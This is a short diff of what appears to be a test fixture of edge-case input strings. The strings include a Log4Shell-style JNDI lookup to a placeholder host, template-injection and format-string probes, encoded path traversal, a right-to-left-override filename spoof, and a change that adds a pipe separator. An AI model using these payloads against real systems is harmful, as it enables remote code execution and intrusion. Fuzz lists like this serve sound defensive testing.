@@ -25,7 +25,7 @@ NOTES = (
     "{{7*7}} ${7*7} {% 7*7 %}",
     "${jndi:ldap://192.0.2.1/a}",
     "%s%n%x %2e%2e%2f",
-    "a,b\nc;d\te",
+    "a,b|c;d\te",
     "\u202egnp.exe",
     "NULL",
     "ünï 数据 🏠",
